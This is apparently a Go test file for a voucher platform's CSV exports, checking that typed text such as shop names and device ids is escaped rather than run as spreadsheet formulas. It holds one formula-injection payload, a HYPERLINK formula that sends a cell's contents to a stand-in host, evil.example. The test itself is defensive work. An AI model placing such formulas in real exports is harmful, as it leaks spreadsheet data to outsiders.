package vouchers

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
	"time"

	"cityhub/audit"
)

// TestCSVTextIsNotAFormula: text that people or devices typed (a till's
// device id, a shop's or a campaign's name, a district) leaves every CSV
// export as text, never as a formula a spreadsheet would run.
func TestCSVTextIsNotAFormula(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	at := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	cells := func(write func(*bytes.Buffer) error) []string {
		t.Helper()
		var buf bytes.Buffer
		if err := write(&buf); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		if b, ok := bytes.CutPrefix(buf.Bytes(), []byte("\ufeff")); ok { // the spreadsheet's
			r = csv.NewReader(bytes.NewReader(b))
			r.Comma = ';'
		}
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return slices.Concat(rows...)
	}
	for name, got := range map[string][]string{
		"audit": cells(func(b *bytes.Buffer) error {
			return WriteAuditCSV(b, []audit.Entry{{ID: 1, At: at, ActorID: "acc_1", Action: "voucher.redeem", ObjectType: "voucher",
				ObjectID: "vch_1", ShopID: "shp_1", Device: evil, IP: "192.0.2.1", Detail: map[string]any{"note": "x"}}})
		}),
		"statement": cells(func(b *bytes.Buffer) error {
			return WriteStatementCSV(b, Statement{Settlement: Settlement{ID: "stl_1", ShopID: "shp_1", PeriodEnd: at},
				Shop: Shop{ID: "shp_1", Name: evil}, Lines: []Redemption{{ID: "vrd_1", VoucherID: "vch_1", At: at, AmountCents: 500}}})
		}),
		"statement for a spreadsheet": cells(func(b *bytes.Buffer) error {
			return WriteStatementSpreadsheet(b, Statement{Settlement: Settlement{ID: "stl_1", ShopID: "shp_1", PeriodEnd: at},
				Shop: Shop{ID: "shp_1", Name: evil}, Lines: []Redemption{{ID: "vrd_1", VoucherID: "vch_1", At: at, AmountCents: 500}}})
		}),
		"open": cells(func(b *bytes.Buffer) error {
			return WriteOpenCSV(b, OpenData{Licence: OpenLicence, Campaigns: []OpenCampaign{{ID: "cmp_1", Name: evil,
				ByDistrict: []Part{{Name: "@district", Count: 1}}, ByCategory: []Part{{Name: "+category", Count: 1}}}}})
		}),
	} {
		if !slices.Contains(got, "'"+evil) {
			t.Errorf("%s: the typed text is not kept as text: %q", name, got)
		}
		for _, c := range got {
			if c == evil || c == "@district" || c == "+category" {
				t.Errorf("%s: a cell a spreadsheet would run: %q", name, c)
			}
		}
	}
}
